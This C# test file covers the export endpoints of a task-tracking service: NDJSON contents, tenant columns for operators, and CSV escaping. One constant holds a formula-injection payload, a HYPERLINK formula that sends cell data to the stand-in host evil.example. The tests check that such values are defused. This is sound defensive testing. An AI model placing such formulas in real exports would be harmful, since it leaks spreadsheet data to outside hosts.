using System.Text;
using System.Text.Json.Nodes;
using CometRunway.EndToEnd.Tests.Callers;
using CometRunway.EndToEnd.Tests.Harness;

namespace CometRunway.EndToEnd.Tests.Export;

/// <summary>The tasks of a filter as a file.</summary>
public sealed class ExportTests(OperatedPair pair) : IClassFixture<OperatedPair>
{
    private const string Hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"see, why\")\nsecond line";

    [Fact]
    public async Task A_line_says_what_the_list_says_and_only_what_the_filter_admits_is_there()
    {
        var meant = await pair.Track(Server.Key, 3, "exported");
        await pair.Track(Server.Key, 2, "left-out");

        using var answer = await pair.Server.Http.GetAsync("/api/export?group=exported&ended=false");
        var lines = (await answer.Content.ReadAsStringAsync()).TrimEnd('\n').Split('\n').Select(static line => JsonNode.Parse(line)!.AsObject()).ToList();

        Assert.Equal("application/x-ndjson", answer.Content.Headers.ContentType?.MediaType);
        Assert.Matches("^tasks-[0-9]{8}-[0-9]{6}\\.ndjson$", answer.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        Assert.Equal(meant.Order(), lines.Select(static line => (string)line["id"]!).Order());
        var listed = (await pair.Server.List("&group=exported")).ToDictionary(static task => (string)task["id"]!);
        foreach (var line in lines)
        {
            var task = listed[(string)line["id"]!];
            foreach (var field in (string[])["group", "trackedAt", "deadline", "labels", "kind"])
                Assert.True(JsonNode.DeepEquals(task[field], line[field]), field);
        }
    }

    [Fact]
    public async Task The_operator_exports_the_tasks_of_all_tenants_and_is_told_whose_each_is()
    {
        await pair.Track("key-of-one-tenant-0123456789", 1, "of-two");
        await pair.Track("key-of-the-other-0123456789", 1, "of-two");
        using var http = pair.Server.Client(OperatedPair.Key);

        var rows = Csv(await http.GetStringAsync("/api/export?format=csv&group=of-two"));

        var tenant = Array.IndexOf(rows[0], "tenant");
        Assert.Equal(
            new[] { await pair.TenantOf("key-of-one-tenant-0123456789"), await pair.TenantOf("key-of-the-other-0123456789") }.Order(),
            rows.Skip(1).Select(row => row[tenant]).Order());
    }

    [Fact]
    public async Task What_an_upstream_says_is_a_cell_of_its_own_and_no_formula()
    {
        var said = new JsonObject { ["id"] = "hostile", ["status"] = "FAILED", ["failure"] = Hostile, ["failureCode"] = "+1", ["cost"] = new JsonObject { ["credits"] = 12.5 } };
        await using var upstream = new RawUpstream(_ => Task.FromResult<byte[]?>(RawUpstream.Answer(200, Encoding.UTF8.GetBytes(said.ToJsonString()), "Content-Type: application/json")));
        using var folder = new TestFolder();
        await using var server = await Server.StartFor(folder, new Uri(upstream.Address, "runwayml"));
        await server.Track(["hostile"], "a-group");
        await server.UntilEnded("hostile");

        using var answer = await server.Http.GetAsync("/api/export?format=csv");
        var rows = Csv(await answer.Content.ReadAsStringAsync());

        Assert.Equal("text/csv", answer.Content.Headers.ContentType?.MediaType);
        var row = rows[0].Zip(Assert.Single(rows.Skip(1))).ToDictionary();
        Assert.Equal(("hostile", "FAILED", "a-group", "12.5", "'+1", $"'{Hostile}"), (row["id"], row["status"], row["group"], row["credits"], row["failureCode"], row["failure"]));
    }

    // As RFC 4180 says; what is not written so fails.
    private static List<string[]> Csv(string text)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        for (var at = 0; at < text.Length;)
        {
            var cell = new StringBuilder();
            if (text[at] is '"')
            {
                while (true)
                {
                    var end = text.IndexOf('"', at + 1);
                    cell.Append(text, at + 1, end - at - 1);
                    at = end + 1;
                    if (at >= text.Length || text[at] is not '"') break;
                    cell.Append('"');
                }
            }
            else
            {
                while (text[at] is not (',' or '\r')) cell.Append(text[at++]);
            }

            row.Add(cell.ToString());
            if (text[at] is ',')
            {
                at++;
                continue;
            }

            Assert.Equal("\r\n", text.Substring(at, 2));
            at += 2;
            rows.Add([.. row]);
            row.Clear();
        }

        Assert.All(rows, other => Assert.Equal(rows[0].Length, other.Length));
        return rows;
    }
}
